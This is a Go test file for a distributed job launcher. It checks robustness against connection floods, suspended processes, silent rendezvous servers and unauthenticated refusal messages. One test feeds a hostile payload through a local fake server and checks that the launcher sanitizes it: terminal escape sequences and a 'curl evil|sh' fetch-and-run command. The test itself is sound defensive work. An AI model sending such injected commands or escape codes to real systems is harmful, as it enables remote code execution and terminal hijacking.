package launcher

import (
	"net"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/ecrec/ecrec/internal/seal"
	"github.com/ecrec/ecrec/launcher/control"
	"github.com/ecrec/ecrec/launcher/place"
	"github.com/ecrec/ecrec/launcher/wire"
)

// flood keeps n silent connections to an address open until the test ends.
func flood(t *testing.T, address string, n int) {
	t.Helper()
	var wg sync.WaitGroup
	over := make(chan struct{})
	for range n {
		wg.Go(func() {
			for {
				conn, err := net.DialTimeout("tcp", address, time.Second)
				if err == nil {
					_ = conn.SetReadDeadline(time.Now().Add(time.Minute))
					closed := make(chan struct{})
					go func() {
						for err == nil { // until the other end closes it
							_, err = conn.Read(make([]byte, 100))
						}
						close(closed)
					}()
					select {
					case <-closed:
					case <-over:
					}
					conn.Close()
					<-closed
				}
				select {
				case <-over:
					return
				case <-time.After(100 * time.Millisecond):
				}
			}
		})
	}
	t.Cleanup(func() {
		close(over)
		wg.Wait()
	})
}

const testSecret = place.EnvSecret + "=0123456789abcdef"

// listening waits until a process listens at an address.
func listening(t *testing.T, address string) {
	t.Helper()
	until(t, "a process to listen at "+address, func() bool { return wire.Responds("tcp", address) })
}

// Silent connections do not keep a process from the rendezvous.
func TestFloodOfSilentConnections(t *testing.T) {
	t.Parallel()
	address := "127.0.0.1:" + freePort(t)
	vars := []string{"WORLD_SIZE=2", "TEST_RDZV=" + address, testSecret, "TEST_DO=done"}
	host := begin(t, t.TempDir(), append(vars, "RANK=0")...)
	listening(t, address)
	flood(t, address, 500)
	begin(t, host.out, append(vars, "RANK=1")...).ends(0)
	host.ends(0)
}

// Silent connections do not keep a restarted supervisor from the running job.
func TestReturnsUnderAFlood(t *testing.T) {
	t.Parallel()
	x := startTogether(t, 3, 1, "100 0", "")
	all := x.reaches(1, 0, 1, 2)
	flood(t, strings.TrimPrefix(variable(x.all[0], "TEST_RDZV"), "TEST_RDZV="), 400)
	kill(t, syscall.SIGKILL, all[2].PPID)
	x.reaches(2, 0, 1)
	x.startAgain(2)
	until(t, "the new supervisor to join", func() bool { return strings.Contains(x.said(), "joined as a spare (1 spare)") })
	x.make("whole")
	x.make("commit")
	x.reaches(3, 0, 1, 2) // it is linked to all by then
	x.finish(0, 0, 1, 3)
}

// variable is an environment variable of a program, as NAME=value.
func variable(x *trial, name string) (found string) {
	for _, v := range x.cmd.Env {
		if strings.HasPrefix(v, name+"=") {
			found = v
		}
	}
	return found
}

// The others wait for a process 0 that is suspended for longer than a handshake may take.
func TestHostStandsStill(t *testing.T) {
	t.Parallel()
	address := "127.0.0.1:" + freePort(t)
	vars := []string{"WORLD_SIZE=2", "TEST_RDZV=" + address, testSecret, "TEST_DO=done", "TEST_HANDSHAKE=200ms"}
	host := begin(t, t.TempDir(), append(vars, "RANK=0")...)
	listening(t, address)
	kill(t, syscall.SIGSTOP, host.cmd.Process.Pid)
	other := begin(t, host.out, append(vars, "RANK=1")...)
	time.Sleep(700 * time.Millisecond)
	kill(t, syscall.SIGCONT, host.cmd.Process.Pid)
	other.ends(0)
	host.ends(0)
}

// A process waits until the limit for a rendezvous that accepts connections and never answers.
func TestSilentRendezvous(t *testing.T) {
	t.Parallel()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	begin(t, t.TempDir(), "RANK=1", "WORLD_SIZE=2", "TEST_RDZV="+l.Addr().String(), testSecret, "TEST_HANDSHAKE=100ms", "TEST_MEET=300ms").
		ends(1, "process 0 was not found there for 300ms (it accepts connections and does not answer)")
}

// serveStranger lets another program listen at the returned address until the test ends. It
// answers each connection and closes it.
func serveStranger(t *testing.T, answer func(net.Conn)) string {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			answer(conn)
			conn.Close()
		}
	}()
	return l.Addr().String()
}

// A refusal by another program is shortened, quoted, and marked as not verified.
func TestRefusalByAStranger(t *testing.T) {
	t.Parallel()
	address := serveStranger(t, func(conn net.Conn) {
		c := wire.NewConn(conn)
		if c.Send(control.Message{Kind: control.KindNonce, Nonce: seal.NewEphemeral().Nonce()}) == nil {
			_, _ = c.Receive()
			_ = c.Send(control.Message{Kind: control.KindRefused,
				Text: "\x1b]0;owned\x07\x1b[2J\u009b1m ok; curl evil|sh " + strings.Repeat("x", 1_000_000)}) // in clear
			_, _ = c.Receive() // until the process has read it and closes
		}
	})
	x := begin(t, t.TempDir(), "RANK=1", "WORLD_SIZE=2", "TEST_RDZV="+address, testSecret)
	x.ends(1, `process 1 was refused: \x1b]0;owned\x07\x1b[2J\u009b1m ok; curl evil|sh xxx`,
		"... (not verified: the sender did not prove that it knows this job's secret)")
	if text := x.err1.String(); len(text) > 500 || strings.ContainsAny(text, "\x1b\x07\u009b") {
		t.Errorf("%d bytes on stderr: %.600q", len(text), text)
	}
}
